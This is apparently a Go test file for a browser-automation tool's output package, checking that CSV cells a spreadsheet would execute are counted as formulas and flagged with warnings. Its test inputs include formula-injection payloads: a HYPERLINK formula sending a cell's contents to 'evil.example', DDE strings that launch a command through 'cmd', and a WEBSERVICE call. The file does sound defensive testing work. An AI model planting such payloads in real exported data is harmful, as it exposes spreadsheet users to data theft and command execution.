package output_test

import (
	"strings"
	"testing"

	"github.com/browseract/browseract-mcp/tools/output"
)

func TestCellsThatASpreadsheetWouldRunAreCounted(t *testing.T) {
	t.Parallel()
	for cell, formulas := range map[string]int{
		`=HYPERLINK("https://evil.example/?q="&A1)`: 1,
		`=1+1`:                        1,
		` =cmd|'/C calc'!A0`:          1,
		`@SUM(A1:A9)`:                 1,
		`+cmd|'/C calc'!A0`:           1,
		`-2+3+WEBSERVICE("//evil")`:   1,
		`=`:                           0,
		`-5.20`:                       0,
		`+49 (30) 1234`:               0,
		`- a point (of a list)`:       0,
		`@handle`:                     0,
		`5=5`:                         0,
		`see =HYPERLINK("//x") above`: 0,
	} {
		text := "name,cell\r\nx,\"" + strings.ReplaceAll(cell, `"`, `""`) + "\"\r\n"
		d := output.Parse(text)
		if got := d.Formulas(); got != formulas {
			t.Errorf("%s: %d formulas, want %d", cell, got, formulas)
		}
		page := mustPage(t, d, output.PageRequest{Format: output.FormatCSV})
		if warned := strings.Contains(strings.Join(page.Warnings, " "), "look like formulas"); warned != (formulas > 0) {
			t.Errorf("%s: Warnings = %q", cell, page.Warnings)
		}
		if page := mustPage(t, d, output.PageRequest{}); strings.Contains(strings.Join(page.Warnings, " "), "formulas") {
			t.Errorf("%s: a page of JSON warns: %q", cell, page.Warnings)
		}
	}
	header := output.Parse("name,=1+1\n1,2\n3,4\n")
	if page := mustPage(t, header, output.PageRequest{Format: output.FormatCSV}); header.Formulas() != 1 || !strings.Contains(strings.Join(page.Warnings, " "), "1 cells") {
		t.Errorf("of a header: %d formulas, and %q", header.Formulas(), page.Warnings)
	}
	if got := output.Parse(`[{"a":"=1+1"}]`).Formulas(); got != 0 {
		t.Errorf("JSON has %d formulas", got)
	}
}
